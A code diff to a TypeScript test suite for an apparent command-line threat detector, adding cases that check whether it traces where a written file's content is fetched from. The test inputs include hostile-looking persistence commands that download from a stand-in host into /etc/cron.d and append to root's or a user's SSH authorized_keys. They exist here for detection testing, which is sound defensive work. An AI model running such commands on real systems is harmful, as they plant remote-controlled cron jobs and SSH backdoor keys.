@@ -8,11 +8,12 @@ const catalog = builtinCatalog();
 
 function shown(commandLine: string, platform: "windows" | "linux") {
   const resolution = resolve({ commandLine, platform, as: "typed" }, catalog);
-  const techniques = resolution.invocations.flatMap(({ behaviours }) => behaviours.flatMap((one) => one.techniques));
-  const told = resolution.invocations.flatMap(({ behaviours }) => behaviours.flatMap((one) => one.runs));
+  const behaviours = resolution.invocations.flatMap((one) => one.behaviours);
+  const techniques = behaviours.flatMap((one) => one.techniques);
+  const told = behaviours.flatMap((one) => one.runs);
   const runs = told.map(({ value }) => value);
   const commands = told.flatMap(({ what, value }) => (what === "command" || what === "executable" ? [value] : []));
-  return { techniques, runs, commands, score: judge(resolution)?.scored.score ?? 0 };
+  return { behaviours, techniques, runs, commands, score: judge(resolution)?.scored.score ?? 0 };
 }
 
 const STARTUP = "C:\\Users\\b\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup";
@@ -84,6 +85,24 @@ it.each([
 ])("tells what runs some day of the text that is put into a file: %s", (line, expected) => {
   expect(shown(line, "linux").runs).toContain(expected);
 });
+
+it.each([
+  "curl -s http://files.example.net/k > /etc/cron.d/k",
+  "curl -s http://files.example.net/k >> ~/.ssh/authorized_keys",
+  "wget -qO- http://files.example.net/k | sudo tee /etc/cron.d/k",
+  "curl -s http://files.example.net/k | gunzip | tee -a /root/.ssh/authorized_keys",
+])("tells whence a file that tells something is filled: %s", (line) => {
+  const told = shown(line, "linux").behaviours.filter(({ writes }) => writes.length > 0);
+  expect(told.flatMap(({ fetches }) => fetches.map(({ value }) => value))).toEqual(["http://files.example.net/k"]);
+});
+
+it.each(["curl -s http://files.example.net/k > /srv/k", "curl -s http://files.example.net/k | tee /srv/k"])(
+  "leaves what fills others to who fetches it: %s",
+  (line) => {
+    const told = shown(line, "linux").behaviours.filter(({ writes }) => writes.length > 0);
+    expect(told.flatMap(({ fetches }) => fetches)).toEqual([]);
+  },
+);
 
 it.each([
   "sed -i 's/robbyrussell/agnoster/' /home/b/.zshrc",
